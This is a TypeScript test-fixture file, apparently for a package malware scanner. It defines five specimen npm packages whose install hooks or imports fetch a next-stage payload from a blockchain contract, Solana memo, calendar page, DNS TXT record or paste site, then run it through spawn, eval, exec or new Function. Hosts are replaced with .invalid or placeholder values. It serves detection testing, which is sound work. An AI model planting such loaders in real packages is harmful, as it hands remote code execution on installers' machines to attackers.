import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'the next stage is looked up where nobody looks (chain, calendar, DNS, paste, picture)';

export const specimens: readonly Specimen[] = [
  {
    name: 'dead-drop-contract',
    from,
    files: {
      'package.json': hooked('node install.js', { dependencies: { ethers: '6' } }),
      'install.js': `const { ethers } = require('ethers');
const axios = require('axios');
const fs = require('fs');
const { spawn } = require('child_process');
const abi = ['function getString(address) view returns (string)'];
const run = async () => {
  const provider = ethers.getDefaultProvider('mainnet');
  const contract = new ethers.Contract('0x0000000000000000000000000000000000000000', abi, provider);
  const host = await contract.getString('0x0000000000000000000000000000000000000000');
  const file = '/tmp/INERT';
  const { data } = await axios.get(host + '/node-linux', { responseType: 'arraybuffer' });
  fs.writeFileSync(file, data);
  fs.chmodSync(file, '755');
  spawn(file, [], { detached: true, stdio: 'ignore' }).unref();
};
run();
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dead-drop-memo',
    from,
    files: {
      'index.js': `const rpc = 'https://api.mainnet-beta.solana.invalid';
async function memo() {
  const answer = await fetch(rpc, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getSignaturesForAddress', params: ['INERT', { limit: 10 }] }),
  });
  const { result } = await answer.json();
  const { link } = JSON.parse(result[0].memo.replace(/\\[\\d+\\] /, ''));
  const stage = await fetch(Buffer.from(link, 'base64').toString());
  eval(Buffer.from(await stage.text(), 'base64').toString());
}
memo().catch(() => {});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'dead-drop-calendar',
    from,
    files: {
      'package.json': manifest({ main: 'lib/preinstall.js' }),
      'lib/preinstall.js': `const https = require('https');
function page(url, done) {
  https.get(url, res => {
    const parts = [];
    res.on('data', part => parts.push(part));
    res.on('end', () => done(Buffer.concat(parts).toString()));
  });
}
page('https://calendar.app.invalid/INERT', html => {
  const title = html.match(/data-base-title="([^"]+)"/)[1];
  page(Buffer.from(title, 'base64').toString(), code => {
    new Function('require', Buffer.from(code, 'base64').toString())(require);
  });
});
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'evaluates' },
  },
  {
    name: 'dead-drop-txt-record',
    from,
    files: {
      'index.js': `const { resolveTxt } = require('dns').promises;
const { exec } = require('child_process');
(async () => {
  const records = await resolveTxt('cfg.stage.invalid');
  const command = records.map(chunks => chunks.join('')).join('');
  exec(Buffer.from(command, 'base64').toString());
})();
module.exports = 'INERT';
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'dead-drop-paste',
    from,
    files: {
      'package.json': hooked('node lib/rules.js'),
      'lib/rules.js': `try {
  var https = require('https');
  https.get({ hostname: 'pastebin.invalid', path: '/raw/INERT', headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } }, r => {
    r.setEncoding('utf8');
    r.on('data', c => {
      eval(c);
    });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'evaluates' },
  },
];
